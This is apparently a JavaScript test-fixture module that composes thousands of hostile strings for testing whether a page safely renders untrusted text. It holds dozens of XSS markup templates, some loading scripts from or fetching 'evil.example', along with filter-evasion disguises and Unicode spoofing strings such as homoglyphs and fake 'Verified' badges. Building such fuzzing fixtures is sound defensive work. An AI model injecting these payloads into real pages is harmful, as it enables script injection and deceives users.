// Texts that want to do harm. Composed, not copied: pieces that have broken pages, in every combination, so that the
// long tier has thousands of them and the short tier an even sample.

const CODE = ["alert(1)", "top.harmed=1", "fetch('https://evil.example/')", "document.title='harmed'"];

/** Ways out of where a text may stand. */
const PREFIXES = [
  "",
  '">',
  "'>",
  "</p>",
  "</script>",
  "</style>",
  "</textarea>",
  "</title>",
  "-->",
  "]]>",
  "\0",
  "\u2028",
  "&quot;>",
  "`",
];

/** Markup that runs code, loads something, or takes the page over. */
const MARKUP = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT>`,
  (code) => `<script src=//evil.example/x.js></script><!--${code}`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror=&#97;${code}>`,
  (code) => `<img/src/onerror=${code}>`,
  (code) => `<img srcset="https://evil.example/a 1x" onload=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${code}'/>#x">`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></foreignObject></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<math><mi xlink:href="javascript:${code}">x`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;">`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href="java&#10;script:${code}">x</a>`,
  (code) => `<a href="\u0001javascript:${code}">x</a>`,
  (code) => `<form action="javascript:${code}"><input type=submit autofocus onfocus=${code}>`,
  (code) => `<input onfocus=${code} autofocus>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=https://evil.example/a onerror=${code}>`,
  (code) => `<body onload=${code}>`,
  (code) => `<marquee onstart=${code}>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<link rel=stylesheet href=https://evil.example/a.css onload=${code}>`,
  (code) => `<style>@import 'https://evil.example/a.css';*{animation:x}</style><p onanimationstart=${code}>`,
  (code) => `<base href=https://evil.example/><script src=a.js></script><!-- ${code}`,
  (code) => `<template shadowrootmode=open><script>${code}</script></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<select><style></select><img src=x onerror=${code}></style>`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  (code) =>
    `<div style="background:url(https://evil.example/a);position:fixed;inset:0" onclick=${code}>x</div>`,
  (code) => `<p id=verified name=ok class="card" data-verdict=valid onmouseover=${code}>✅ Verified</p>`,
  (code) => `<proofmark-badge src="javascript:${code}"></proofmark-badge>`,
  (code) => `[x](javascript:${code})`,
  (code) => `[x](<javascript:${code}>)`,
  (code) => `![x](https://evil.example/a.png "${code}")`,
  (code) => `![x"onerror="${code}](x)`,
  (code) => `[x]: javascript:${code}\n\n[x]`,
  (code) => `<https://evil.example/?${code}>`,
  (code) => `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
];

/** What is done to a text to slip past a filter. */
const DISGUISES = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll("<", "&lt;").replaceAll("&lt;s", "<s"),
  (text) => text.replaceAll("<", "＜"),
  (text) => text.replaceAll(" ", "\u0009"),
  (text) => [...text].join("\u200B"),
  (text) => `\u202E${text}\u202C`,
  (text) => `${text}${text}`,
];

/** `count` different ones, in an order that spreads the kinds evenly. */
export function hostileTexts(count) {
  const total = CODE.length * PREFIXES.length * MARKUP.length * DISGUISES.length;
  const texts = new Set();
  // A step without a common divisor visits every combination once before it repeats.
  const step = 7919;
  for (let index = 0; index < total && texts.size < count; index++) {
    let at = (index * step) % total;
    const pick = (list) => {
      const item = list[at % list.length];
      at = Math.floor(at / list.length);
      return item;
    };
    const [markup, disguise, prefix, code] = [pick(MARKUP), pick(DISGUISES), pick(PREFIXES), pick(CODE)];
    texts.add(disguise(prefix + markup(code)));
  }
  return [...texts];
}

/** Texts that deceive the eye instead of the browser (I02), by what they do. */
export const DECEPTIONS = {
  "text turned around": "\u202Eegdab dilav a ton si siht\u202C",
  "isolates left open": "\u2067\u2066\u202A\u202Bunclosed",
  "characters of no width": "Har\u200Bvard\u200C \u200DUni\uFEFFversity\u2060",
  "tag characters": `Valid${"\u{E0041}".repeat(50)}`,
  "stacked marks": `H${"\u0336\u035F\u0489\u0300".repeat(80)}arvard`,
  "a line break": "Harvard\n\n\nValid\r\nSigned by its issuer",
  "form feed and bell": "a\u000C\u0007\u001B[31mb",
  "a seal of approval": "✅ Verified ✔️ Valid",
  "letters of other alphabets": "Ηаrvаrd Unіvеrsіty",
  "ten thousand characters": "W".repeat(10_000),
  "one word of arabic without spaces": "\u0645".repeat(3000),
  "white space only": " \u00A0\u2003\u3000\t",
};
